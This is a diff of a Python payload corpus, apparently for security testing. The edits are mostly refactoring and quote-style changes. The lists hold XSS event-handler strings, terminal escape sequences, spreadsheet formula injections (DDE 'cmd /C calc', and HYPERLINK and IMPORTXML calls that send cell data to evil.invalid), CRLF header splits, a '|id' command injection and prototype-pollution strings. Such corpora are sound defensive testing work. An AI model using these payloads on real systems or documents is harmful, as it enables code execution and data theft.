@@ -55,12 +55,14 @@ SCRIPTS = (
     "\uff1cscript\uff1epwned(1)\uff1c/script\uff1e",
     "\xbcscript\xbepwned(1)\xbc/script\xbe",
 )
-HANDLERS = tuple(
+_BY_EVENT = tuple(
     form.format(tag=tag, event=event)
     for number, event in enumerate(_EVENTS)
     for form in ("<{tag} {event}=pwned(1) pwned>", '"{event}="pwned(1)" pwned="', "x' {event}='pwned(1)' pwned='")
     for tag in (_TAGS[number % len(_TAGS)],)
-) + (
+)
+HANDLERS = (
+    *_BY_EVENT,
     "<svg/onload=pwned(1)>",
     "<svg><animate onbegin=pwned(1) attributeName=x dur=1s>",
     "<svg><set attributeName=onmouseover to=pwned(1)>",
@@ -212,7 +214,7 @@ TERMINALS = (
     "\x1b]1337;File=inline=1:cHduZWQ=\x07",
     "\x1b]50;/etc/passwd\x07",
     "\x1b]4;0;?\x07",
-    "\x1bP$q\"p\x1b\\",
+    '\x1bP$q"p\x1b\\',
     "\x1bP+q544e\x1b\\",
     "\x1b_Gf=100;cHduZWQ=\x1b\\",
     "\x1b^private\x1b\\",
@@ -307,8 +309,8 @@ BYTES = (
 )
 FORMULAS = (
     "=cmd|' /C calc'!A0",
-    "=HYPERLINK(\"https://evil.invalid/\"&A1,\"x\")",
-    "=IMPORTXML(\"//evil.invalid\",\"//a\")",
+    '=HYPERLINK("https://evil.invalid/"&A1,"x")',
+    '=IMPORTXML("//evil.invalid","//a")',
     "+1+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -322,14 +324,14 @@ FORMULAS = (
     "x;=1+1",
     "x\t=1+1",
     "x,=1+1",
-    "\"=1+1",
-    "\",=1+1,\"",
-    "\"\"\"=1+1",
+    '"=1+1',
+    '",=1+1,"',
+    '"""=1+1',
     "'=1+1",
-    "=\"a\"\"b\"",
+    '="a""b"',
     "%0A-3+3+cmd|' /C calc'!D2",
-    "DDE(\"cmd\";\"/C calc\";\"__\")",
-    "=1+1\";=2+2",
+    'DDE("cmd";"/C calc";"__")',
+    '=1+1";=2+2',
     "\ufeff=1+1",
 )
 HEADERS = (
@@ -339,13 +341,13 @@ HEADERS = (
     "x\r\n\r\n<script>pwned(1)</script>",
     "x%0d%0aX-Pwned: 1",
     "\u560d\u560aX-Pwned: 1",
-    "x\"; filename=\"pwned.exe",
+    'x"; filename="pwned.exe',
     "x; filename*=UTF-8''pwned.exe",
-    "x\\\"; pwned=\"1",
+    'x\\"; pwned="1',
     "inline; filename=x.html",
     "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
     "event: pwned\ndata: 1\n\n",
-    "data: {\"type\":\"hit\"}\r\r",
+    'data: {"type":"hit"}\r\r',
     "id: 1\nretry: 1",
     "226 Transfer complete\r\n530 pwned",
     "x\r\nDELE /",
@@ -393,11 +395,11 @@ PATHS = (
     "|id",
 )
 BREAKERS = (
-    "\"",
+    '"',
     "'",
     "`",
     "\\",
-    "\\\\\"",
+    '\\\\"',
     "<",
     ">",
     "&",
@@ -418,9 +420,9 @@ BREAKERS = (
     "<select><option>",
     "<frameset>",
     "<table><tr><td>",
-    "\"}],\"pwned\":[{\"x\":\"",
-    "{\"type\":\"done\",\"reason\":\"end\"}",
-    "{\"__proto__\":{\"pwned\":1}}",
+    '"}],"pwned":[{"x":"',
+    '{"type":"done","reason":"end"}',
+    '{"__proto__":{"pwned":1}}',
     "__proto__",
     "constructor",
     "toString",
@@ -440,7 +442,7 @@ BREAKERS = (
     "/(a+)+$/",
     "/[/",
     "agent:",
-    "\"never closed",
+    '"never closed',
 )
 LONG = (
     "W" * 400,
